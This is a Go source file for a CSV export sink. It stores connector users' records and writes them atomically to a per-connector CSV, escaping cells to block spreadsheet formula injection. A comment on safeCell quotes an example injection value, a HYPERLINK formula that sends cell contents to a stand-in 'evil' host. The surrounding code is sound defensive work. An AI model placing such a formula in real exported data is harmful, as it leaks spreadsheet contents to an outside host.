package sink

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"

	"neurons-connector/fault"
	"neurons-connector/internal/private"
	"neurons-connector/store"
)

// CSV is the CSV drop (neurons-ingestion.md §5): it keeps each connector's
// current users in the store and, at the end of every run (its final batch),
// writes them all to <Dir>/<connector name>-users.csv through a temporary
// file and a rename, so an importer never reads half a file.
//
// Applying a batch sets or removes records by source ID, so applying the
// same batch again after a crash changes nothing: the outbox's at-least-once
// delivery is exactly-once here too.
type CSV struct {
	DB  *store.DB
	Dir string
}

// Push implements Sink.
func (c *CSV) Push(_ context.Context, key string, p Payload) error {
	body, err := p.JSON()
	if err != nil {
		return &Error{Class: fault.ErrRejected, Message: "CSV drop: " + err.Error(), err: err}
	}
	b, err := Parse(key, body)
	if err != nil {
		return &Error{Class: fault.ErrRejected, Message: "CSV drop: " + err.Error(), err: err}
	}
	err = c.DB.Update(func(tx *store.Tx) error {
		for _, u := range b.Upserts {
			if err := tx.PutSinkRecord(b.Connector.ID, u.SourceID, u.Attributes); err != nil {
				return err
			}
		}
		for _, d := range b.Deletes {
			if err := tx.DeleteSinkRecord(b.Connector.ID, d.SourceID); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		return &Error{Class: fault.ErrTransient, Message: "CSV drop: store the batch: " + err.Error(), err: err}
	}
	if !b.Info.Final {
		return nil
	}
	if err := c.write(b.Connector); err != nil {
		return &Error{Class: fault.ErrTransient, Message: "CSV drop: " + err.Error(), err: err}
	}
	return nil
}

// FileName is where the drop of a connector goes.
func (c *CSV) FileName(connectorName string) string {
	return filepath.Join(c.Dir, connectorName+"-users.csv")
}

// write renders every record of the connector: a header of SourceID and
// the target attributes any user has, then one row per user; list values
// are joined with "; ".
func (c *CSV) write(conn Connector) error {
	if err := os.MkdirAll(c.Dir, 0o750); err != nil {
		return err
	}
	if err := private.Inherit(c.Dir); err != nil {
		return err
	}
	var columns []string
	seen := map[string]bool{}
	err := c.DB.View(func(tx *store.Tx) error {
		return tx.ForEachSinkRecord(conn.ID, func(_ string, attrs []byte) error {
			var m map[string]json.RawMessage
			if err := json.Unmarshal(attrs, &m); err != nil {
				return err
			}
			for k := range m {
				if !seen[k] {
					seen[k] = true
					columns = append(columns, k)
				}
			}
			return nil
		})
	})
	if err != nil {
		return fmt.Errorf("read records: %w", err)
	}
	slices.Sort(columns)
	path := c.FileName(conn.Name)
	tmp, err := os.CreateTemp(c.Dir, "."+filepath.Base(path)+".*")
	if err != nil {
		return err
	}
	defer func() { _ = os.Remove(tmp.Name()) }() // after the rename there is nothing left to remove
	w := csv.NewWriter(tmp)
	header := []string{"SourceID"}
	for _, col := range columns {
		header = append(header, safeCell(col))
	}
	_ = w.Write(header)
	err = c.DB.View(func(tx *store.Tx) error {
		row := make([]string, len(columns)+1)
		return tx.ForEachSinkRecord(conn.ID, func(id string, attrs []byte) error {
			var m map[string]any
			if err := json.Unmarshal(attrs, &m); err != nil {
				return err
			}
			row[0] = safeCell(id)
			for i, col := range columns {
				row[i+1] = safeCell(cell(m[col]))
			}
			return w.Write(row)
		})
	})
	w.Flush()
	if err == nil {
		err = w.Error()
	}
	if err == nil {
		err = tmp.Chmod(0o640)
	}
	if err == nil {
		err = tmp.Sync()
	}
	if cerr := tmp.Close(); err == nil {
		err = cerr
	}
	if err != nil {
		return fmt.Errorf("write %s: %w", path, err)
	}
	if err := os.Rename(tmp.Name(), path); err != nil {
		return err
	}
	return private.Inherit(path)
}

// safeCell neutralises a cell that a spreadsheet would evaluate as a
// formula (OWASP's CSV injection advice): one that starts with =, +, -, @,
// a tab or a carriage return gets a ' in front, which Excel and LibreOffice
// read as "text" and do not show. A title such as
// =HYPERLINK("http://evil/?x="&A1,"Click") stays a title.
func safeCell(s string) string {
	if s != "" && strings.IndexByte("=+-@\t\r", s[0]) >= 0 {
		return "'" + s
	}
	return s
}

func cell(v any) string {
	switch x := v.(type) {
	case nil:
		return ""
	case string:
		return x
	case []any:
		parts := make([]string, 0, len(x))
		for _, e := range x {
			parts = append(parts, cell(e))
		}
		return strings.Join(parts, "; ")
	}
	b, _ := json.Marshal(v)
	return string(b)
}
